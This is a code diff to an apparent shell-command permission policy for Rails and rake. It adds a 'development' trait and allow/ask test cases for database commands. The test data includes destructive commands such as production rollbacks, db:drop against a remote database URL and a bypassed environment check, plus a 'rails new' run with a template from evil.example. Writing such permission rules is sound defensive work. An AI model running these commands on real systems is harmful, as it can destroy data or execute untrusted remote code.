@@ -108,6 +108,7 @@ RAKE = command(
         flags("-I= -g --system -G"),
     ],
     does=runs(RAKEFILE),
+    traits="development",
 )
 RAILS = command(
     "rails file:rails",
@@ -127,7 +128,7 @@ RAILS = command(
         loose("credentials:edit encrypted:edit", does=writes("the application's credentials", "secret")),
         loose("credentials:show encrypted:show credentials:diff", does=reads("the application's secrets", "secret")),
     ],
-    otherwise=sub("rails", "READ_BY(rake_task) PLAIN...", unlisted=PLAIN, does=APPLICATION),
+    otherwise=sub("rails", "READ_BY(rake_task)...", unlisted=PLAIN, does=APPLICATION, traits="development"),
 )
 RSPEC = command(
     "rspec cucumber parallel_rspec parallel_test guard",
@@ -226,6 +227,14 @@ ask    gem push pkg/app-1.0.gem
 allow  bundle add httparty
 ask    bundle add x --git https://github.com/somebody/x
 ask    rails db:drop
+allow  bin/rails db:migrate && bin/rails db:rollback STEP=1 && bin/rails db:migrate
+allow  RAILS_ENV=test bin/rails db:drop db:create db:schema:load
+allow  RAILS_ENV=test rake db:reset
+ask    RAILS_ENV=production bin/rails db:rollback
+ask    RAILS_ENV=staging rake db:rollback
+ask    DATABASE_URL=postgres://app@db.corp.example/app bin/rails db:rollback
+ask    RAILS_ENV=test DATABASE_URL=postgres://app@db.corp.example/app bin/rails db:drop
+ask    bin/rails db:migrate db:drop
 ask    bundle exec rails db:reset
 ask    rake db:drop DISABLE_DATABASE_ENVIRONMENT_CHECK=1
 ask    rails new app -m https://evil.example/template.rb
